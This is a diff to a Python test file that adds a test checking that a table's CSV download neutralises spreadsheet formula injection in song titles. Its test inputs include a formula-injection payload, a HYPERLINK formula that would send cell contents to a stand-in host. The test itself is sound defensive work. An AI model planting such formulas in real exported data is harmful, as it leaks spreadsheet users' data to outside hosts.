@@ -1,6 +1,7 @@
 """No title, artist, genre or file name does anything on a page but stand there."""
 
 import copy
+import io
 import json
 import re
 import subprocess
@@ -119,6 +120,19 @@ def test_in_a_figure_it_is_text_in_its_words_and_in_its_picture(text):
     assert words(page.select_one(".hp-figure-title").get_text()).replace("’", "'") == words(text)
     assert [words(image["alt"]) for image in page.select("picture img")] == [words(text)] * 2
     assert page.select("[id=fig-a] > p")[-1].get_text() == "Caption."
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝"])
+def test_in_a_download_it_is_no_formula(start):
+    title = f'{start}HYPERLINK("http://x/?"&A1)'
+    cells = {title: "'" + title, "Don't = that": "Don't = that", "+0.7": "+0.7", "": ""}
+    data = pd.DataFrame(
+        {"title": list(cells), "loudness": [-7.5, 0.25, -1.0, 2], "rise": [-3, 0, 3, 4]}
+    )
+    download = pd.read_csv(io.StringIO(draw.table(data), newline=""), keep_default_na=False)
+    assert download["title"].to_list() == list(cells.values())
+    assert download["loudness"].to_list() == [-7.5, 0.25, -1.0, 2]
+    assert download["rise"].to_list() == [-3, 0, 3, 4]
 
 
 @each_attack
